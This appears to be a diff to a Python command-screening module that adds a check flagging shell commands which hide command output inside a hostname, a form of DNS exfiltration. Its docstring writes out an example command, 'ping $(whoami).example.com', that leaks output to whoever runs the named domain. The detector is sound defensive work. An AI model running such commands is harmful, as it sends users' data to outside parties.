@@ -201,7 +201,16 @@ def _scans_others(seen: Seen) -> bool:
     return any(UNKNOWN in word.text or not is_loopback(word) for word in seen.operands)
 
 
+def _name_holds_output(seen: Seen) -> bool:
+    """`ping $(whoami).example.com`: whoever keeps the names of example.com learns what was printed."""
+    source = seen.command.source
+    return ("$(" in source or "`" in source) and any(
+        UNKNOWN in text and "." in text.strip(UNKNOWN) for text in seen.texts
+    )
+
+
 PREDICATES: dict[str, Callable[[Seen], bool]] = {
+    "name_holds_output": _name_holds_output,
     "stays_here": _stays_here,
     "own_route": _own_route,
     "curl_sends": _curl_sends,
